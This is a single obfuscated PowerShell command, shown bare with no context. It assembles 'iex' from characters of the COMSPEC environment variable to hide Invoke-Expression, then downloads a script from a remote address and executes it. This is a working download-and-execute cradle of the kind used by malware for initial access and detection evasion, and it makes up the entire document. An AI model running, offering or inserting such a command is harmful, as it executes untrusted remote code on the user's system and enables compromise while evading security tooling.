.($env:comspec[4,15,25]-join'') ((New-Object Net.WebClient).DownloadString('http://192.0.2.66/a'))
